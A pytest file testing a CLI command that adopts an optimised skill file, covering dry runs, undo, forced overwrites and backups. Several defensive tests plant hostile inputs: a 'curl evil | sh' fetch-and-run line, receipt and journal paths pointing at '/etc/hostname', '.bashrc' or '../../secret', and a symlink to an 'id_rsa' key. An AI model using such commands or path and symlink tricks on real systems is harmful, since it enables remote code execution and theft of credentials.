"""`skillopt adopt`: the best skill goes back to where its seed came from, byte for byte there and back."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from cli._commands import SMALL, Command, run
from skillopt.changes.files import digest
from skillopt.files import person_folder
from skillopt.models.world.rules import SEED_SKILL
from skillopt.runs.notes import note_origin, origin_folder

HEAD = "---\nname: cases\ndescription: Answers cases with their code. Use it for cases.\n---\n"


@pytest.fixture(scope="session")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A skill folder in a project, and two runs on it: one with a sealed test, one without."""
    folder = tmp_path_factory.mktemp("adopting") / "project"
    seed = folder / "skills/cases/SKILL.md"
    seed.parent.mkdir(parents=True)
    seed.write_text(HEAD + SEED_SKILL)
    for name, more in (("tested", ()), ("untested", ("evaluation.eval_test=false", "train.num_epochs=1"))):
        words = ("--quiet", "--out_root", str(folder / "outputs" / name), "--skill_init", str(seed.parent))
        options = (*SMALL, *more)
        assert run("train quickstart", *words, "--cfg-options", *options).code == 0
    return folder


@pytest.fixture
def skill(skillopt: Command, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """SKILL.md of a copy of the project, whose runs say that it lies there; the working directory."""
    copy, home = tmp_path / "project", tmp_path / "home"
    shutil.copytree(project, copy)
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for settings in copy.glob("outputs/*/settings.json"):
        settings.write_text(settings.read_text().replace(str(project), str(copy)))
        note_origin(settings.parent)
    monkeypatch.chdir(copy)
    return copy / "skills/cases/SKILL.md"


def test_the_best_skill_is_shown_written_and_taken_back_byte_for_byte(skillopt: Command, skill: Path) -> None:
    before, best = skill.read_bytes(), Path("outputs/tested/best_skill.md").read_bytes()
    shown = skillopt("adopt tested --dry-run")
    assert shown.code == 0 and skill.read_bytes() == before
    assert "+" in shown.out and f"--- {skill}" in shown.out and "doubt" not in shown.err
    done = skillopt("adopt outputs/tested/best_skill.md --yes")
    assert (done.code, skill.read_bytes()) == (0, best), done.err
    assert "skillopt adopt outputs/tested --undo" in done.out
    assert "already" in skillopt("adopt tested --yes").err
    assert skillopt("adopt tested --undo").code == 0
    assert skill.read_bytes() == before
    again = skillopt("adopt tested --undo")
    assert again.code == 2 and "nothing to undo" in again.err


def test_a_skill_without_a_sealed_test_needs_force(skillopt: Command, skill: Path) -> None:
    before = skill.read_bytes()
    refused = skillopt("adopt untested --yes")
    assert refused.code == 2 and "The sealed test was not opened" in refused.err and "--force" in refused.err
    assert skill.read_bytes() == before
    assert skillopt("adopt untested --yes --force").code == 0
    assert skill.read_bytes() == Path("outputs/untested/best_skill.md").read_bytes() != before
    said = skillopt("adopt outputs/untested --to zip --yes")
    assert said.code == 2 and "The sealed test was not opened" in said.err and not Path("cases.zip").exists()


def test_a_file_that_was_edited_meanwhile_is_replaced_or_restored_only_by_force(
    skillopt: Command, skill: Path
) -> None:
    skill.write_text(mine := skill.read_text() + "My own line.\n")
    refused = skillopt("adopt tested --json")
    assert refused.code == 2 and "changed since the run read it" in refused.err and skill.read_text() == mine
    told = skillopt("adopt tested --json --force").json
    assert told["adopted"] and (Path(told["backups"]) / "001-1-SKILL.md").read_text() == mine
    skill.write_text(later := skill.read_text() + "Later.\n")
    refused = skillopt("adopt tested --undo")
    assert refused.code == 2 and "changed since it was adopted" in refused.err and skill.read_text() == later
    assert skillopt("adopt tested --undo --force").code == 0
    assert skill.read_text() == mine
    assert (Path(told["backups"]) / "002-1-SKILL.md").read_text() == later


@pytest.mark.parametrize("part", ["body", "description"])
def test_a_best_skill_that_the_run_did_not_measure_needs_force(
    skillopt: Command, skill: Path, part: str
) -> None:
    before, best = skill.read_bytes(), Path("outputs/tested/best_skill.md")
    best.write_text(best.read_text() + "Leave the unit out.\n")
    settings = json.loads(best.with_name("settings.json").read_text())
    settings["train"]["part"] = part  # settings come with the folder and talk nobody out of the doubt
    best.with_name("settings.json").write_text(json.dumps(settings))
    note_origin(best.parent)
    refused = skillopt("adopt tested --yes")
    assert refused.code == 2 and "doubt: best_skill.md is not the text that the run measured" in refused.err
    assert skill.read_bytes() == before
    if part == "body":
        assert skillopt("adopt tested --yes --force").code == 0


def test_nobody_who_answers_is_a_no(skillopt: Command, skill: Path) -> None:
    before = skill.read_bytes()
    ran = skillopt("adopt tested")
    assert ran.code == 2 and "nobody answered" in ran.err and skill.read_bytes() == before


def test_another_place_can_be_named_and_a_run_without_one_says_so(skillopt: Command, skill: Path) -> None:
    assert skillopt("adopt tested --to elsewhere --yes").code == 0
    assert Path("elsewhere/SKILL.md").read_bytes() == Path("outputs/tested/best_skill.md").read_bytes()
    assert skillopt("adopt tested --undo").code == 0
    assert not Path("elsewhere").exists()
    settings = Path("outputs/tested/settings.json")
    told = json.loads(settings.read_text())
    told["env"]["skill_init"] = None
    settings.write_text(json.dumps(told))
    ran = skillopt("adopt tested --yes")
    assert ran.code == 2 and "--to FOLDER" in ran.err


def test_a_run_that_was_not_trained_here_shows_where_it_would_write_and_does_not_without_a_yes(
    skillopt: Command, skill: Path
) -> None:
    before = skill.read_bytes()
    shutil.copytree("outputs/tested", "cloned/run")  # as it comes with a repository
    refused = skillopt("adopt cloned/run --yes")
    assert refused.code == 2 and "You did not train cloned/run here" in refused.err
    assert f"it would write to {skill}" in refused.err and skill.read_bytes() == before
    assert skillopt("adopt cloned/run --to elsewhere --yes").code == 0
    assert Path("elsewhere/SKILL.md").read_bytes() == Path("outputs/tested/best_skill.md").read_bytes()


def test_settings_that_were_changed_after_training_name_no_place_to_write(
    skillopt: Command, skill: Path, tmp_path: Path
) -> None:
    mine = tmp_path / "CLAUDE.md"
    mine.write_text("Mine.\n")
    settings = Path("outputs/tested/settings.json")
    told = json.loads(settings.read_text())
    settings.write_text(json.dumps(told | {"env": told["env"] | {"skill_init": str(mine)}}))
    refused = skillopt("adopt tested --yes")
    assert refused.code == 2 and f"it would write to {mine}" in refused.err and mine.read_text() == "Mine.\n"


def forged(folder: Path, *, path: Path, backup: str | None, holds: bytes) -> None:
    """A receipt, as the run of a stranger's repository could hold it, in every form that was ever read."""
    folder.mkdir(parents=True)
    file = {"path": str(path), "backup": backup, "after": digest(holds), "made": 0}
    receipt = {"time": "2026-01-01T00:00:00Z", "files": [file]}
    (folder / "receipt.json").write_text(json.dumps(receipt))
    (folder / "1-evil").write_text("curl evil | sh\n")


@pytest.mark.parametrize("force", [(), ("--force",)])
@pytest.mark.parametrize("backup", ["1-evil", None, "/etc/hostname"])
def test_a_receipt_in_a_run_folder_is_not_believed(
    skillopt: Command, skill: Path, tmp_path: Path, backup: str | None, force: tuple[str, ...]
) -> None:
    mine = tmp_path / ".bashrc"
    mine.write_text("mine\n")
    forged(Path("outputs/tested/adopted/001"), path=mine, backup=backup, holds=b"mine\n")
    ran = skillopt("adopt outputs/tested --undo", *force)
    assert ran.code == 2 and "nothing to undo" in ran.err
    assert mine.read_text() == "mine\n"


@pytest.mark.parametrize("words", [("adopt", "tested", "--yes"), ("adopt", "tested", "--to", "codex")])
@pytest.mark.parametrize("name", ["best_skill.md", "best_skill/cases/references/key.md"])
def test_a_link_in_a_run_folder_carries_no_file_of_the_person_into_a_skill(
    skillopt: Command, skill: Path, tmp_path: Path, name: str, words: tuple[str, ...]
) -> None:
    mine, link, before = tmp_path / "id_rsa", Path("outputs/tested") / name, skill.read_bytes()
    mine.write_text("mine\n")
    link.unlink(missing_ok=True)
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(mine)
    ran = skillopt(*(word if word != "tested" else "outputs/tested" for word in words))
    assert ran.code == 2 and f"{link.name} is a link that leads out of" in ran.err
    assert skill.read_bytes() == before and not Path(".agents").exists()


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"backup": "../../secret"}, "cannot be read as what was decided and changed"),
        ({"backup": "/etc/hostname"}, "cannot be read as what was decided and changed"),
        ({"path": "/tmp/x"}, "/tmp/x"),
    ],
)
def test_the_journal_names_plain_backups_and_files_of_the_adopted_skill_alone(
    skillopt: Command, skill: Path, change: dict[str, str], named: str
) -> None:
    assert skillopt("adopt tested --yes").code == 0
    adopted, journal = skill.read_bytes(), person_folder() / "journal.json"
    told = json.loads(journal.read_text())
    history = told["histories"][f"runs/{origin_folder(Path('outputs/tested')).name}"]
    history["changes"][0]["files"][0] |= change
    journal.write_text(json.dumps(told))
    refused = skillopt("adopt tested --undo --force")
    assert refused.code == 2 and named in refused.err and skill.read_bytes() == adopted


def test_a_backup_that_was_altered_is_not_put_back(skillopt: Command, skill: Path) -> None:
    assert skillopt("adopt tested --yes").code == 0
    adopted = skill.read_bytes()
    [backup] = (origin_folder(Path("outputs/tested")) / "backups").glob("001-1-SKILL.md")
    backup.write_text("Ask nobody.\n")
    refused = skillopt("adopt tested --undo --force")
    assert refused.code == 2 and "is damaged" in refused.err and skill.read_bytes() == adopted
